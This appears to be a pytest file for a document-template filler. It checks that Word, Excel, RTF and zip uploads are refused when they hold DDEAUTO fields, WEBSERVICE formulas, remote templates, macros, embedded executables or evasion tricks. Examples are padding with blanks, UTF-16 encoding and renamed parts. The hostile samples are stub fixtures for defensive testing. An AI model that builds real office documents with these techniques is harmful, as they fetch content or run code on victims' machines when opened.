"""Forms and attachments that would fetch or start something when somebody opens them."""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from openpyxl.formatting.rule import FormulaRule
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation
from openpyxl.worksheet.table import Table, TableFormula

from expertpool.core.filling import TemplateRefused
from expertpool.core.filling.filler import check
from expertpool.core.reading import archives
from expertpool.files.exceptions import FileRefused
from expertpool.files.validators import detect_type
from tests.core.filling.office import (
    PACKAGE,
    REL,
    W,
    add_part,
    book_bytes,
    changed,
    docx_bytes,
    run,
)
from tests.core.filling.test_filling import make_book

FIELDS = {"项目名称": "甲"}
COLUMNS = {"专家.姓名": "王", "专家.序号": "1", "专家.电话": "1"}
DRAWING = "http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing"
TEXT = run("{{项目名称}}")
BEGIN, END = (
    '<w:r><w:fldChar w:fldCharType="begin"/></w:r>',
    '<w:r><w:fldChar w:fldCharType="end"/></w:r>',
)


def refused(content: bytes) -> str:
    with pytest.raises(TemplateRefused) as found:
        check(io.BytesIO(content), fields=FIELDS, columns={"专家.姓名": "王"}, required=())
    return str(found.value)


def code(text: str) -> str:
    return f"<w:r><w:instrText>{text}</w:instrText></w:r>"


@pytest.mark.parametrize(
    "field",
    [
        BEGIN + code(" AUTOTEXT x ") + END,
        BEGIN + code(" IMPORT c:\\x ") + END,
        BEGIN + code(" GOTOBUTTON x ") + END,
        BEGIN + code(' HYPERLINK "file:///x" ') + END,
        BEGIN + BEGIN + code(" QUOTE DDEAUTO ") + END + code(" PAGE ") + END,
        BEGIN + BEGIN + code(" PAGE ") + END + code(" PAGE ") + END,
        (
            '<x:fldSimple xmlns:x="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
            'x:instr="DDEAUTO c:\\cmd"/>'
        ),
    ],
)
def test_fields_of_word_that_nobody_listed_are_refused(field: str) -> None:
    assert "不能用的域" in refused(docx_bytes(f"<w:p>{field}{TEXT}</w:p>"))


def test_those_that_tell_of_the_document_are_taken() -> None:
    field = BEGIN + code(" PAGE \\* MERGEFORMAT ") + END + BEGIN + code(' DATE \\@ "yyyy年" ') + END
    content = docx_bytes(f"<w:p>{field}{TEXT}</w:p>")
    assert check(io.BytesIO(content), fields=FIELDS, columns={}, required=()) == "docx"


def with_name(name: str, text: str) -> bytes:
    book = make_book()
    book.defined_names[name] = DefinedName(name, attr_text=text)
    return book_bytes(book)


def with_format(formula: str) -> bytes:
    book: Any = make_book()
    book.active.conditional_formatting.add("A1", FormulaRule(formula=[formula]))
    return book_bytes(book)


def with_entry(formula: str) -> bytes:
    book: Any = make_book()
    entry = DataValidation(type="custom", formula1=formula)
    entry.add("A1")
    book.active.add_data_validation(entry)
    return book_bytes(book)


def in_a_cell(formula: str) -> bytes:
    return book_bytes(make_book(D1=f"={formula}"))


@pytest.mark.parametrize(
    "formula",
    [
        """'"''x'!A1&WEBSERVICE("http://x/"&A1)&'"''x'!A1""",  # the sheet's name would hide the call
        r"'\\evil\s\[x.xlsx]S'!$A$1=1",
        "'http://x/[x.xlsx]S'!$A$1=1",
        "[x.xlsx]S!$A$1=1",
        "'c:x.xlsx'!total=1",
        "x.xlsx!total=1",
        "T1[a'[b]+WEBSERVICE(A1)+T1[c']]",
        "A1:WEBSERVICE (A1)",
    ],
)
@pytest.mark.parametrize(
    "place", [in_a_cell, lambda text: with_name("别处", text), with_format, with_entry]
)
def test_no_formula_leaves_its_book_wherever_it_stands(
    formula: str, place: Callable[[str], bytes]
) -> None:
    found = refused(place(formula))
    assert "取外部内容" in found or "不能用函数 WEBSERVICE" in found


def test_formulas_of_tables_are_looked_at() -> None:
    assert "不能用函数 WEBSERVICE" in refused(with_table('WEBSERVICE("http://x/"&A1)'))
    assert detects(with_table('WEBSERVICE("http://x/"&A1)')) == "fetches"


def with_table(formula: str) -> bytes:
    book: Any = make_book()
    sheet = book.active
    for place, value in {"H1": "a", "I1": "b", "H2": 1, "I2": 2}.items():
        sheet[place] = value
    table = Table(displayName="T1", ref="H1:I2")
    table._initialise_columns()
    for column, name in zip(table.tableColumns, "ab", strict=True):
        column.name = name
    table.tableColumns[1].calculatedColumnFormula = TableFormula(attr_text=formula)
    sheet.add_table(table)
    return book_bytes(book)


def with_drawing(**facts: str) -> bytes:
    said = " ".join(f'{name}="{value}"' for name, value in facts.items())
    drawing = (
        f'<d:wsDr xmlns:d="{DRAWING}"><d:twoCellAnchor><d:sp {said}/></d:twoCellAnchor></d:wsDr>'
    )
    sheet = "xl/worksheets/sheet1.xml"
    content = book_bytes(make_book())
    return add_part(content, "xl/drawings/drawing1.xml", to=sheet, kind="drawing", data=drawing)


def test_a_drawing_starts_nothing_and_shows_nothing_from_elsewhere() -> None:
    elsewhere = with_drawing(macro="'\\\\evil\\s\\x.xlsm'!run", textlink="")
    assert "宏" in refused(elsewhere)
    assert detects(elsewhere) == "fetches"
    assert "取外部内容" in refused(with_drawing(macro="", textlink="'http://x/[x.xlsx]S'!$A$1"))
    # What is left of a macro of the book itself, saved without macros, starts nothing.
    assert detects(with_drawing(macro="[0]!Button1_Click")) == ".xlsx"


@pytest.mark.parametrize(
    "formula",
    [
        """'a"b'!A1""",
        "SUM('a\"b'!A1:A3)*1.5E+3",
        "SUBTOTAL(9,T1[金额(元)])",
        'IF(A1="[x]|",{1,2;3,4},#REF!)',
    ],
)
def test_what_stands_in_the_book_is_taken(formula: str) -> None:
    book: Any = make_book(D1=f"={formula}")
    book.create_sheet('a"b')["A1"] = 1
    content = io.BytesIO(book_bytes(book))
    assert check(content, fields=FIELDS, columns=COLUMNS, required=()) == "xlsx"


DDE = f'<w:x xmlns:w="{W}"><w:p><w:fldSimple w:instr="DDEAUTO c:/cmd x"/></w:p></w:x>'


@pytest.mark.parametrize(
    "part",
    ["word/comments.xml", "word/glossary/document.xml", "word/comments.dat", "other/comments.xml"],
)
def test_fields_are_found_in_every_part(part: str) -> None:
    content = docx_bytes(f"<w:p>{TEXT}</w:p>", more={part: DDE})
    assert "不能用的域「DDEAUTO」" in refused(content)
    assert detects(content) == "fetches"


@pytest.mark.parametrize("kind", ["aFChunk", "subDocument", "frame"])
def test_nothing_else_is_brought_in(kind: str) -> None:
    relation = f'<Relationship Id="rIdA" Type="{REL}/{kind}" Target="chunk.htm"/>'
    page = b"<html><img src='http://evil/x.png'></html>"
    content = docx_bytes(f"<w:p>{TEXT}</w:p>", relations=relation, more={"word/chunk.htm": page})
    assert "插入了别的文件或网页" in refused(content)
    assert detects(content) == ("brought in" if kind == "aFChunk" else ".docx")


def detects(content: bytes) -> str:
    """Return how the door of attachments takes a file, or why it does not."""
    try:
        return detect_type(io.BytesIO(content)).extensions[0]
    except FileRefused as error:
        return "fetches" if "到别处取内容" in str(error) else "brought in" * ("网页" in str(error))


@pytest.mark.shows("OPS-04")
@pytest.mark.parametrize(
    ("content", "words"),
    [
        (book_bytes(make_book(D1="=FILTERXML(A1,B1)")), "FILTERXML"),
        (book_bytes(make_book(D1="=SUM(1)+EXEC(A1)")), "EXEC"),
        (with_name("图", 'WEBSERVICE("http://x/")'), "WEBSERVICE"),
        (with_name("Auto_Open", "Sheet!$A$1"), "是宏"),
        (with_name("别处", "[1]Sheet!$A$1"), "取外部内容"),
        (with_format('WEBSERVICE("http://x/"&A1)=1'), "WEBSERVICE"),
    ],
)
def test_functions_and_names_of_excel_that_nobody_listed_are_refused(
    content: bytes, words: str
) -> None:
    assert words in refused(content)


def renamed_macro(types: str, part: bytes) -> bytes:
    """Return a workbook whose macro is called as an innocent part."""
    stream = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(book_bytes(make_book()))) as old,
        zipfile.ZipFile(stream, "w") as new,
    ):
        for name in old.namelist():
            data = old.read(name)
            if name == "[Content_Types].xml":
                data = data.replace(b"</Types>", types.encode() + b"</Types>")
            new.writestr(name, data)
        new.writestr("xl/theme/notes.dat", part)
    return stream.getvalue()


WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
FETCHING = (
    f'<w:document xmlns:w="{W}"><w:body><w:p>{BEGIN}{code(" DDEAUTO c:/x y ")}{END}{TEXT}</w:p>'
    "</w:body></w:document>"
)


def called(name: str, data: bytes) -> bytes:
    """Return a document whose text is a part of another name, written as ``data``."""
    old = "word/document.xml"
    with zipfile.ZipFile(io.BytesIO(docx_bytes(TEXT))) as archive:
        parts = {one: archive.read(one) for one in archive.namelist()}
    named = {
        one.replace("document.xml", name): part.replace(b"document.xml", name.encode())
        for one, part in parts.items()
        if one != old
    }
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        for one, part in (named | {f"word/{name}": data}).items():
            archive.writestr(one, part)
    return stream.getvalue()


@pytest.mark.parametrize("name", ["document.xml", "document.dat"])
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_blanks_before_a_part_hide_nothing(name: str, encoding: str) -> None:
    content = called(name, ("\n" * 100_000 + FETCHING).encode(encoding))
    assert "不能用的域「DDEAUTO」" in refused(content)
    assert detects(content) == "fetches"


@pytest.mark.parametrize("name", ["document.xml", "document.dat"])
def test_a_part_that_only_others_read_is_refused(name: str) -> None:
    said = f'<?xml version="1.0" encoding="cp037"?>{FETCHING}'
    content = called(name, said.encode("cp037", "xmlcharrefreplace"))
    assert "已损坏" in refused(content)
    with pytest.raises(FileRefused, match="已损坏"):
        detect_type(io.BytesIO(content))


def test_text_where_the_code_of_a_field_stands_is_code() -> None:
    """LibreOffice reads it so."""
    between = '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
    content = docx_bytes(f"<w:p>{BEGIN}{run(' DDEAUTO c:/x y ')}{between}{END}{TEXT}</w:p>")
    assert "不能用的域「DDEAUTO」" in refused(content)
    assert detects(content) == "fetches"
    result = docx_bytes(f"<w:p>{BEGIN}{code(' PAGE ')}{between}{run('DDE 3')}{END}{TEXT}</w:p>")
    assert check(io.BytesIO(result), fields=FIELDS, columns={}, required=()) == "docx"
    assert detects(result) == ".docx"


MICROSOFT = "http://schemas.microsoft.com/office"


@pytest.mark.parametrize(
    ("kind", "words"),
    [
        (f"{REL}/control", "对象或控件"),
        (f"{REL}/package", "对象或控件"),
        (f"{REL}/oleObject", "对象或控件"),
        (f"{MICROSOFT}/2011/relationships/webextensiontaskpanes", "对象或控件"),
        (f"{MICROSOFT}/2006/relationships/ui/extensibility", "宏"),
        (f"{REL}/connections", "数据源"),
        (f"{REL}/queryTable", "数据源"),
    ],
)
def test_what_a_part_is_to_another_counts_whatever_it_is_called(kind: str, words: str) -> None:
    relation = f'<Relationship Id="rIdA" Type="{kind}" Target="notes.dat"/>'
    assert words in refused(
        docx_bytes(f"<w:p>{TEXT}</w:p>", relations=relation, more={"word/notes.dat": b"x"})
    )


VML = 'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'


@pytest.mark.parametrize(
    "part",
    [
        f'<w:p {VML}><w:r><w:pict><v:shape><v:imagedata src="http://evil/x.png"/></v:shape></w:pict></w:r></w:p>',
        f'<w:p {VML}><w:r><w:pict><v:rect><v:fill o:href="//evil/x.png"/></v:rect></w:pict></w:r></w:p>',
        '<w:mailMerge><w:connectString w:val="DBQ=x"/></w:mailMerge>',
    ],
    ids=["picture", "filling", "letters to many"],
)
def test_forms_take_nothing_from_elsewhere(part: str) -> None:
    assert "外部文件或图片" in refused(docx_bytes(f"<w:p>{TEXT}</w:p>{part}"))


def test_what_stands_before_a_mistake_counts() -> None:
    drawing = "<xml><x:FmlaMacro>'\\\\evil\\s\\[x.xlsm]'!run</x:FmlaMacro><br></xml>"
    content = changed(book_bytes(make_book()), **{"xl/drawings/vmlDrawing1.vml": drawing})
    assert detects(content) == "fetches"


def test_a_function_that_another_calls_fetches_as_well() -> None:
    assert detects(in_a_cell("MAP(A1:A3,_xleta.WEBSERVICE)")) == "fetches"


SAID = '<Default Extension="dat" ContentType="application/vnd.ms-office.vbaProject"/>'
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512) + "_VBA_PROJECT".encode("utf-16-le")


@pytest.mark.parametrize(("types", "part"), [(SAID, b"x"), ("", OLE)])
def test_macros_by_any_name_are_refused(types: str, part: bytes) -> None:
    content = renamed_macro(types, part)
    with pytest.raises(FileRefused, match="宏"):
        detect_type(io.BytesIO(content))
    assert "宏" in refused(content)


@pytest.mark.parametrize(
    ("types", "part"),
    [
        (SAID.replace("vba", "&#118;ba"), b"x"),
        ("", OLE.lower()),
        ("", b'<m:macrosheet xmlns:m="http://schemas.microsoft.com/office/excel/2006/main"/>'),
    ],
    ids=["written otherwise", "small letters", "a sheet of macros"],
)
def test_macros_by_any_spelling_are_refused(types: str, part: bytes) -> None:
    with pytest.raises(FileRefused, match="宏"):
        detect_type(io.BytesIO(renamed_macro(types, part)))


def test_macros_are_found_whatever_the_types_are_written_in() -> None:
    content = renamed_macro(SAID, b"x")
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        types = archive.read("[Content_Types].xml").decode()
    plain = types[types.index("<Types") :]
    for said in (plain.encode("utf-16"), b" " * 5_000_000 + plain.encode()):
        with pytest.raises(FileRefused, match="宏"):
            detect_type(io.BytesIO(changed(content, **{"[Content_Types].xml": said})))


@pytest.mark.django_db
def test_sheets_of_macros_of_older_workbooks_are_refused() -> None:
    """Macros of Excel 4.0 are cells: no stream is named after them (MS-XLS, 2.4.28)."""
    book = (Path(__file__).parents[1] / "data/quirks/old.xls").read_bytes()
    assert detects(book) == ".xls"
    sheet = (
        rb"(\x85\0[\x08-\x40]\0.{4}[\0-\2])\0"  # length, place, whether it is hidden; then its kind
    )
    macros, count = re.subn(sheet, lambda found: found[1] + b"\1", book, flags=re.DOTALL)
    assert count
    with pytest.raises(FileRefused, match="宏"):
        detect_type(io.BytesIO(macros))


def related(kind: str, target: str) -> bytes:
    relation = (
        f'<Relationship Id="r9" Type="{REL}/{kind}" Target="{target}" TargetMode="External"/>'
        "</Relationships>"
    )
    start = f'<Relationships xmlns="{PACKAGE}/relationships">{relation}'
    return changed(docx_bytes(TEXT), **{"word/_rels/settings.xml.rels": start})


def linked_book(part: str) -> bytes:
    return changed(book_bytes(make_book()), **{"xl/externalLinks/externalLink1.xml": part})


@pytest.mark.parametrize(
    "content",
    [
        related("attachedTemplate", "https://example.org/x.dotm"),
        related("oleObject", "mhtml:http://example.org/x"),
        docx_bytes(f"<w:p>{BEGIN}{code(' DD')}{code('EAUTO c:/x y ')}{END}</w:p>"),
        docx_bytes('<w:p><w:fldSimple w:instr="DDE cmd x"/></w:p>'),
        linked_book('<externalLink><ddeLink ddeService="cmd" ddeTopic="x"/></externalLink>'),
    ],
    ids=["template", "object", "field", "simple field", "link of Excel"],
)
def test_an_attachment_that_fetches_or_speaks_when_it_is_opened_is_refused(content: bytes) -> None:
    with pytest.raises(FileRefused, match="到别处取内容"):
        detect_type(io.BytesIO(content))


@pytest.mark.parametrize(
    "said",
    [
        lambda text: text.encode("utf-16"),
        lambda text: text.replace("https:", "http&#115;:").encode(),
        lambda text: text.replace('"r9"', '"r>9"').encode(),
        lambda text: text.replace("/attachedTemplate", "&#47;attachedTemplate").encode(),
        lambda text: b" " * 5_000_000 + text.encode(),
    ],
    ids=["UTF-16", "address", "sign", "kind", "blanks"],
)
@pytest.mark.parametrize("name", ["settings.xml.rels", "settings.xml.RELS"])
def test_relations_are_read_as_programs_read_them(said: Callable[[str], bytes], name: str) -> None:
    relation = (
        f'<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="r9" TargetMode="External" '
        f'Type="{REL}/attachedTemplate" Target="https://example.org/x.dotm"/></Relationships>'
    )
    assert detects(changed(docx_bytes(TEXT), **{f"word/_rels/{name}": said(relation)})) == "fetches"


@pytest.mark.parametrize(
    "content",
    [
        related("attachedTemplate", "file:///C:/Users/wang/Normal.dotm"),
        related("hyperlink", "https://example.org/dde/"),
        docx_bytes(f"<w:p>{BEGIN}{code(' HYPERLINK &quot;http://x/dde &quot; ')}{END}</w:p>"),
        linked_book("<externalLink><externalBook/></externalLink>"),
    ],
    ids=["own template", "link", "link as a field", "another workbook"],
)
def test_what_people_write_is_taken(content: bytes) -> None:
    assert detect_type(io.BytesIO(content)).extensions[0] in {".docx", ".xlsx"}


def packed(**files: bytes) -> bytes:
    """A zip of these files."""
    whole = io.BytesIO()
    with zipfile.ZipFile(whole, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return whole.getvalue()


def with_macros() -> bytes:
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "_VBA_PROJECT".encode("utf-16-le")
    return changed(docx_bytes(TEXT), **{"word/notes.bin": ole})


@pytest.mark.parametrize(
    "name",
    [
        *("a.exe", "投标/b.DOCM", "d.hta", "e.jar", "f.js", "g.lnk", "h.xlam", "i.bat. "),
        *("j.py", "k.msc", "l.SettingContent-ms", "m.slk", "n.iqy", "o.rdp"),
        *("p.app/Contents/MacOS/p", "q.vsdm", "r.deb", "s.run", "t.AppImage", "u.dmg"),
    ],
)
def test_a_zip_brings_no_program(name: str) -> None:
    """Packing once got round all that is asked of a file by itself."""
    with pytest.raises(FileRefused, match="宏或程序"):
        detect_type(io.BytesIO(packed(**{"报价.txt": b"1", name: b"MZ"})))


@pytest.mark.django_db
@pytest.mark.parametrize("deeper", [False, True], ids=["in a zip", "in a zip in a zip"])
def test_documents_within_a_zip_are_held_to_what_one_by_itself_is(deeper: bool) -> None:
    def within(content: bytes) -> bytes:
        once = packed(**{"资料/1.dat": content})
        return packed(**{"二.bin": once}) if deeper else once

    book = (Path(__file__).parents[1] / "data/quirks/old.xls").read_bytes()
    assert detects(within(docx_bytes(TEXT))) == detects(within(book)) == ".zip"
    assert detects(within(related("oleObject", "https://example.org/x"))) == "fetches"
    older = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "_VBA_PROJECT".encode("utf-16-le")
    for content in (with_macros(), older):
        with pytest.raises(FileRefused, match="宏或程序"):
            detect_type(io.BytesIO(within(content)))


MACROS_AS_TEXT = b"QWN0aXZlTWltZQAAAfAEAAAA"  # how ActiveMime begins, in base64
WORDS_AS_XML = b'<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:wordDocument>'


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("i.zip", packed(**{"word/document.xml": b"<a/>", "a.exe": b"MZ"})),
        ("i.zip", packed(**{"OFD.xml": b"<a/>", "a.docm": b"PK"})),
        ("i.zip", b"junk" + packed(**{"a.exe": b"MZ"})),
        ("a.docx", b" " + with_macros()),
        ("a.doc", b"MIME-Version: 1.0\r\n\r\n" + b"\r\n".join([b"QWN0aX", b"ZlTWltZQ"])),
        ("a.XML", WORDS_AS_XML + b"<w:binData>" + MACROS_AS_TEXT),
        ("a.doc", (WORDS_AS_XML + MACROS_AS_TEXT).decode().encode("utf-16")),
        ("a.xml", b'<pkg:part pkg:name="/word/vbaProject.bin">'),
        ("a.rtf", rb"{\rtf1{\field{\*\fldinst {\b DDEAUTO} c:\\x}}}"),
    ],
    ids=["docx", "ofd", "zip after junk", "after a blank", "page", "2003", "utf-16", "flat", "rtf"],
)
def test_what_a_zip_hides_by_name_or_form_is_found(name: str, content: bytes) -> None:
    """A zip that counts as a document, one with something before it, office files that are text."""
    with pytest.raises(FileRefused, match="宏或程序"):
        detect_type(io.BytesIO(packed(**{"报价.txt": b"1", name: content})))


@pytest.mark.parametrize("deeper", [False, True], ids=["by itself", "in a zip"])
def test_nothing_hides_in_a_zip_before_a_zip(deeper: bool) -> None:
    """We read the last one, 7-Zip shows the first."""
    content = packed(**{"a.exe": b"MZ"}) + packed(**{"报价.txt": b"1"})
    if deeper:
        content = packed(**{"资料.zip": content})
    with pytest.raises(FileRefused, match="已损坏"):
        detect_type(io.BytesIO(content))


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def packaged(name: bytes) -> bytes:
    """An object in which a file of this name stands, as Word puts it into a document."""
    mark = "\x01Ole10Native".encode("utf-16-le")
    return OLE + b"\0" * 8 + mark + b"\x40\0\0\0\x02\0" + name + b"\0C:\\x\\" + name + b"\0MZ"


def embedding(content: bytes) -> bytes:
    return changed(docx_bytes(TEXT), **{"word/embeddings/1.bin": content})


@pytest.mark.parametrize("packs", [False, True], ids=["by itself", "in a zip"])
@pytest.mark.parametrize(
    "content",
    [
        with_macros(),
        b"x" + with_macros(),
        changed(book_bytes(make_book()), **{"xl/macrosheets/sheet1.xml": b"<a/>"}),
        packaged(b"invoice.exe"),
    ],
    ids=["macros", "after a letter", "sheet of macros", "program"],
)
def test_what_stands_within_a_document_is_looked_into(content: bytes, packs: bool) -> None:
    whole = embedding(content)
    with pytest.raises(FileRefused, match="宏或程序"):
        detect_type(io.BytesIO(packed(**{"a.docx": whole}) if packs else whole))


def test_so_is_what_stands_within_that() -> None:
    with pytest.raises(FileRefused, match="宏或程序"):
        detect_type(io.BytesIO(embedding(embedding(with_macros()))))


@pytest.mark.django_db
def test_nor_stands_a_program_within_an_older_document() -> None:
    with pytest.raises(FileRefused, match="宏或程序"):
        detect_type(io.BytesIO(packaged(b"\xb7\xa2\xc6\xb1.scr") + b"\0" * 512))


def test_tables_and_files_within_a_document_are_taken() -> None:
    for content in (book_bytes(make_book()), docx_bytes(TEXT), packaged(b"list.pdf")):
        assert detects(embedding(content)) == ".docx"


def test_plain_files_of_the_same_names_are_taken() -> None:
    files = {
        "表.xls": b"<html><table><tr><td>1</td></tr></table></html>",
        "~$信.docx": b"\x03abc" + b"\0" * 150,
        "数据.xml": b"<a>DDE</a>",
        "信.rtf": rb"{\rtf1{\field{\*\fldinst PAGE}} 6DDE9}",
        "空.zip": packed(),
        "附件.zip": packed(**{"说明.docx": docx_bytes(TEXT)}),
    }
    assert detects(packed(**files)) == ".zip"


def test_more_documents_than_can_be_looked_into_are_refused(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    content = docx_bytes(TEXT)
    monkeypatch.setattr(archives, "MOST_PACKED", 2 * len(content))
    assert archives.kind_of_archive(io.BytesIO(packed(a=content, b=content))) == "zip"
    with pytest.raises(archives.Refused, match="分成几个压缩包"):
        archives.kind_of_archive(io.BytesIO(packed(a=content, b=content, c=content)))
